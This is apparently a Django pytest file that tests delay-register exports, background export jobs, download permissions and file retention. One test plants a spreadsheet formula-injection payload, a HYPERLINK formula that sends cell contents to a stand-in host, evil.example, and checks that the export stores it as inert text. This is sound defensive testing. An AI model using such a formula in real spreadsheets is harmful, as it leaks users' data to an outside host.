"""Streaming exports and background export jobs: the register in SQL, constant queries, the job's
lifecycle, who may download, and the retention of the files."""

import io
import random
from datetime import date, timedelta

import pytest
from django.db import connection
from django.db.models import Value
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from engine.deadlines.calendar import WorkingCalendar, calendar_for
from engine.deadlines.working_days_sql import WorkingDays
from engine.exports.register_xlsx import register_xlsx_write
from engine.models import CalendarException, ExportJob, OrgRole
from engine.selectors.delay_register import delay_register, delay_register_rows, register_chunks
from engine.services import exports as export_svc
from engine.services.retention import expire_exports
from tests.oversight.scenario import at, build

pytestmark = pytest.mark.django_db
Q1 = {"kind": "quarter", "year": 2026, "number": 1}


@pytest.fixture(autouse=True)
def _eager():
    """Tasks run in-process (as without a broker), also when REDIS_URL points at a broker."""
    from config.celery import app

    eager = app.conf.task_always_eager
    app.conf.task_always_eager = True
    yield
    app.conf.task_always_eager = eager


def _more_overdue(world, n: int) -> None:
    with at("2026-02-02"):
        for i in range(n):
            world.item_in("in_progress", content=f"Quá hạn thêm {i}", due=date(2026, 3, 2 + i % 20))


def test_working_day_numbers_in_sql_match_the_calendar(world):
    """W(b) − W(a) is `working_days_between(a, b)` for a ≤ b (the register clamps the rest to 0)."""
    CalendarException.objects.create(organisation=world.org, date=date(2026, 5, 4), kind="day_off")
    CalendarException.objects.create(organisation=world.org, date=date(2026, 5, 9), kind="working_day")
    cal = calendar_for(world.org.pk)
    days = WorkingDays(cal, date(2025, 12, 1), date(2027, 3, 1))
    rng = random.Random(16)
    pairs = [
        tuple(
            sorted(
                (
                    date(2026, 1, 1) + timedelta(rng.randrange(400)),
                    date(2026, 1, 1) + timedelta(rng.randrange(400)),
                )
            )
        )
        for _ in range(40)
    ]
    pairs += [(date(2026, 2, 13), date(2026, 2, 25)), (date(2026, 5, 1), date(2026, 5, 11))]  # Tết, 4/5, 9/5
    annotations = {}
    for n, (a, b) in enumerate(pairs):
        annotations[f"a{n}"] = days.expression(Value(a))
        annotations[f"b{n}"] = days.expression(Value(b))
    row = type(world.org).objects.filter(pk=world.org.pk).values(**annotations).get()
    for n, (a, b) in enumerate(pairs):
        expected = cal.working_days_between(a, b)
        assert row[f"b{n}"] - row[f"a{n}"] == expected, (a, b)
        assert row[f"a{n}"] == days.number(a)
    assert WorkingCalendar() != cal


@pytest.mark.skipif(connection.vendor != "postgresql", reason="the array lookup is PostgreSQL's")
def test_working_day_numbers_by_array_lookup_are_the_case_s(world):
    """`lookup_sql` (the evaluation statement's) gives W of every day `sql` gives, inside the
    calendar's range and on either side of it."""
    CalendarException.objects.create(organisation=world.org, date=date(2026, 5, 4), kind="day_off")
    CalendarException.objects.create(organisation=world.org, date=date(2026, 5, 9), kind="working_day")
    days = WorkingDays(calendar_for(world.org.pk), date(2026, 1, 10), date(2026, 12, 20))
    assert days.steps
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT d::date, {days.sql('d', 'postgresql')}, {days.lookup_sql('d')} "
            "FROM generate_series('2025-11-01'::date, '2027-02-01'::date, '1 day') AS d"
        )
        rows = cursor.fetchall()
    assert len(rows) > 450
    assert [row for row in rows if row[1] != row[2]] == []
    assert all(row[2] == days.number(row[0]) for row in rows if days.low <= row[0] <= days.high)


def test_register_page_queries_do_not_grow_with_late_items(world, client):
    build(world)
    client.force_login(world.inspectorate)

    def page_queries() -> tuple[int, int]:
        with at("2026-03-25"), CaptureQueriesContext(connection) as captured:
            response = client.get(reverse("delay_register"), Q1)
        assert response.status_code == 200
        return len(captured), response.content.decode().count("data-item-id=")

    few, shown_few = page_queries()
    _more_overdue(world, 8)
    many, shown_many = page_queries()
    assert (shown_few, shown_many) == (4, 12)
    assert many == few


def test_register_export_reads_in_chunks_with_constant_queries(world):
    build(world)
    rows = delay_register_rows(
        world.org.pk, start=date(2026, 1, 1), end=date(2026, 3, 31), today=date(2026, 3, 25)
    )

    def export_queries() -> tuple[int, int]:
        out = io.BytesIO()
        with CaptureQueriesContext(connection) as captured:
            written = register_xlsx_write(register_chunks(rows, size=1000), out, title="Q1", item_url=str)
        return len(captured), written

    few, written_few = export_queries()
    _more_overdue(world, 6)
    many, written_many = export_queries()
    assert (written_few, written_many) == (4, 10)
    assert many == few
    # Chunks of 3 rows: the details are read once per chunk, never once per row.
    with CaptureQueriesContext(connection) as captured:
        register_xlsx_write(register_chunks(rows, size=3), io.BytesIO(), title="Q1", item_url=str)
    per_chunk = (len(captured) - 1) / 4  # 10 rows in 4 chunks, one query (plus cursor reads) for the rows
    assert per_chunk <= 7


def test_register_export_cells_are_values_and_no_formula(world):
    s = build(world)
    s.overdue.content = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
    s.overdue.save(update_fields=["content"])
    rows = delay_register_rows(
        world.org.pk, start=date(2026, 1, 1), end=date(2026, 3, 31), today=date(2026, 3, 25)
    )
    out = io.BytesIO()
    register_xlsx_write(register_chunks(rows), out, title="Q1", item_url=lambda pk: f"https://x/w/{pk}")
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref == "A3:O7"
    by_content = {sheet.cell(row=r, column=2).value: r for r in range(4, 8)}
    r = by_content[s.overdue.content]
    assert sheet.cell(row=r, column=2).data_type == "s"
    assert (sheet.cell(row=r, column=7).value, sheet.cell(row=r, column=8).value) == (
        "Quá hạn",
        7,
    )
    assert sheet.cell(row=r, column=15).hyperlink.target == f"https://x/w/{s.overdue.pk}"


def _start_job(client, settings, django_capture_on_commit_callbacks, execute=True):
    settings.EXPORT_DIRECT_MAX_ROWS = 2  # the scenario's 4 rows go to a background job
    with at("2026-03-25"), django_capture_on_commit_callbacks(execute=execute):
        response = client.get(reverse("delay_register"), {**Q1, "format": "xlsx"})
    assert response.status_code == 302
    return ExportJob.objects.get(), response


def test_a_large_register_export_is_a_job_with_progress_and_a_download(
    world, client, settings, django_capture_on_commit_callbacks
):
    s = build(world)
    client.force_login(world.inspectorate)
    seen = []
    original = export_svc.BUILDERS[ExportJob.Kind.REGISTER_XLSX]

    def watched(job, out, progress):
        seen.append(ExportJob.objects.get(pk=job.pk).status)
        return original(job, out, progress)

    export_svc.BUILDERS[ExportJob.Kind.REGISTER_XLSX] = watched
    try:
        job, response = _start_job(client, settings, django_capture_on_commit_callbacks)
    finally:
        export_svc.BUILDERS[ExportJob.Kind.REGISTER_XLSX] = original
    assert response.url == reverse("export_job_detail", args=[job.pk])
    assert seen == [ExportJob.Status.RUNNING]
    assert (job.status, job.progress, job.rows, job.requested_by) == ("done", 100, 4, world.inspectorate)
    assert job.file.name.startswith("exports/") and job.finished_at
    page = client.get(response.url)
    assert page.status_code == 200 and reverse("export_job_download", args=[job.pk]) in page.content.decode()
    download = client.get(reverse("export_job_download", args=[job.pk]))
    assert download.status_code == 200 and download["Content-Disposition"].endswith(
        'delay-register-quarter-2026-1.xlsx"'
    )
    sheet = load_workbook(io.BytesIO(download.getvalue())).active
    assert {sheet.cell(row=r, column=2).value for r in range(4, 8)} == {
        s.late.content,
        s.overdue.content,
        s.extended.content,
        s.other_unit.content,
    }
    assert sheet.cell(row=4, column=15).hyperlink.target.startswith("http://testserver/work-items/")


def test_a_queued_job_polls_until_it_runs(world, client, settings, django_capture_on_commit_callbacks):
    build(world)
    client.force_login(world.inspectorate)
    job, response = _start_job(client, settings, django_capture_on_commit_callbacks, execute=False)
    assert job.status == ExportJob.Status.QUEUED
    fragment = client.get(response.url, headers={"HX-Request": "true"}).content.decode()
    assert 'hx-trigger="every 1s"' in fragment and 'data-status="queued"' in fragment
    assert client.get(reverse("export_job_download", args=[job.pk])).status_code == 404
    with at("2026-03-25"):
        export_svc.export_job_run(job_id=job.pk)
    fragment = client.get(response.url, headers={"HX-Request": "true"}).content.decode()
    assert "hx-trigger" not in fragment and 'data-status="done"' in fragment
    # A job runs once: a second run leaves the finished job alone.
    assert export_svc.export_job_run(job_id=job.pk).status == ExportJob.Status.DONE


def test_a_failed_export_says_why(world, client, settings, django_capture_on_commit_callbacks):
    build(world)
    client.force_login(world.inspectorate)
    original = export_svc.BUILDERS[ExportJob.Kind.REGISTER_XLSX]

    def broken(job, out, progress):
        raise ValueError("disk full")

    export_svc.BUILDERS[ExportJob.Kind.REGISTER_XLSX] = broken
    try:
        job, response = _start_job(client, settings, django_capture_on_commit_callbacks)
    finally:
        export_svc.BUILDERS[ExportJob.Kind.REGISTER_XLSX] = original
    assert job.status == ExportJob.Status.FAILED and job.finished_at and not job.file
    assert "Không ghi được tệp" in job.error
    assert job.error in client.get(response.url).content.decode()
    assert client.get(reverse("export_job_download", args=[job.pk])).status_code == 404


def test_an_evaluation_export_job_fails_clearly_when_the_evaluation_is_gone(world):
    job = ExportJob.objects.create(
        organisation=world.org,
        requested_by=world.evaluator,
        kind=ExportJob.Kind.EVALUATION_XLSX,
        params={"evaluation_id": 999999},
        file_name="evaluation.xlsx",
    )
    job = export_svc.export_job_run(job_id=job.pk)
    assert (job.status, job.error) == (ExportJob.Status.FAILED, "Kỳ đánh giá không còn nữa.")


def test_download_by_another_inspector_is_refused(
    world, client, settings, django_capture_on_commit_callbacks
):
    build(world)
    client.force_login(world.inspectorate)
    job, _response = _start_job(client, settings, django_capture_on_commit_callbacks)
    for other in (world.director, world.inspectorate_x, world.staff_a):
        client.force_login(other)
        assert client.get(reverse("export_job_download", args=[job.pk])).status_code == 404
        assert client.get(reverse("export_job_detail", args=[job.pk])).status_code == 404
    client.logout()
    assert client.get(reverse("export_job_download", args=[job.pk])).status_code == 302  # to the login


def test_download_is_refused_once_the_role_is_revoked(
    world, client, settings, django_capture_on_commit_callbacks
):
    build(world)
    client.force_login(world.inspectorate)
    job, _response = _start_job(client, settings, django_capture_on_commit_callbacks)
    OrgRole.objects.filter(user=world.inspectorate).update(revoked_at=timezone.now())
    assert client.get(reverse("export_job_download", args=[job.pk])).status_code == 404


@pytest.mark.parametrize("role", ["evaluator", "secretariat", "head_a", "staff_a"])
def test_only_register_readers_start_a_register_export(world, role):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        export_svc.export_job_start(
            actor=getattr(world, role), kind=ExportJob.Kind.REGISTER_XLSX, params={}, file_name="r.xlsx"
        )
    assert not ExportJob.objects.exists()


def test_evaluation_exports_are_for_score_readers(world):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        export_svc.export_job_start(
            actor=world.inspectorate, kind=ExportJob.Kind.EVALUATION_XLSX, params={}, file_name="e.xlsx"
        )
    job = export_svc.export_job_start(
        actor=world.evaluator,
        kind=ExportJob.Kind.EVALUATION_DOCX,
        params={"evaluation_id": 1},
        file_name="e.docx",
    )
    assert job.organisation_id == world.org.pk


def test_the_retention_sweep_removes_old_export_files(
    world, client, settings, django_capture_on_commit_callbacks
):
    build(world)
    client.force_login(world.inspectorate)
    job, _response = _start_job(client, settings, django_capture_on_commit_callbacks)
    name = job.file.name
    storage = job.file.storage
    assert storage.exists(name)
    assert expire_exports(now=job.finished_at + timedelta(hours=23)).jobs == []
    result = expire_exports(now=job.finished_at + timedelta(hours=25))
    assert result.jobs == [job.pk] and result.bytes_freed > 0
    job.refresh_from_db()
    assert job.status == ExportJob.Status.EXPIRED and not job.file and not storage.exists(name)
    assert client.get(reverse("export_job_download", args=[job.pk])).status_code == 404


def test_a_page_number_past_the_end_shows_the_last_page(world, client):
    build(world)
    client.force_login(world.inspectorate)
    with at("2026-03-25"):
        response = client.get(reverse("delay_register"), {**Q1, "page": 99})
        rows = delay_register_rows(
            world.org.pk, start=date(2026, 1, 1), end=date(2026, 3, 31), today=date(2026, 3, 25)
        )
        first, total = rows.page(1, 3)
        second, _total = rows.page(2, 3)
    assert response.status_code == 200 and response.content.decode().count("data-item-id=") == 4
    assert total == 4 and len(first) == 3 and len(second) == 1
    assert [r["days_late"] for r in first + second] == sorted(
        (r["days_late"] for r in first + second), reverse=True
    )


def test_a_later_period_carries_items_still_overdue_and_not_those_closed(world):
    s = build(world)
    rows = delay_register(
        world.org.pk, start=date(2026, 4, 1), end=date(2026, 6, 30), today=date(2026, 4, 10)
    )
    by_id = {row.id: row for row in rows}
    assert s.overdue.pk in by_id and s.other_unit.pk in by_id  # still in progress, due in March
    assert s.late.pk not in by_id  # accepted late in March: the March register's, not April's
    assert by_id[s.overdue.pk].kind == "overdue" and by_id[s.overdue.pk].days_late > 7


def test_expire_exports_command_prints_what_it_removed(
    world, settings, django_capture_on_commit_callbacks, client
):
    import json

    from django.core.management import call_command

    build(world)
    client.force_login(world.inspectorate)
    job, _response = _start_job(client, settings, django_capture_on_commit_callbacks)
    out = io.StringIO()
    later = (job.finished_at + timedelta(hours=25)).isoformat()
    call_command("expire_exports", "--dry-run", "--json", "--now", later, stdout=out)
    assert json.loads(out.getvalue())["jobs"] == [job.pk]
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE and job.file.storage.exists(job.file.name)  # a dry run
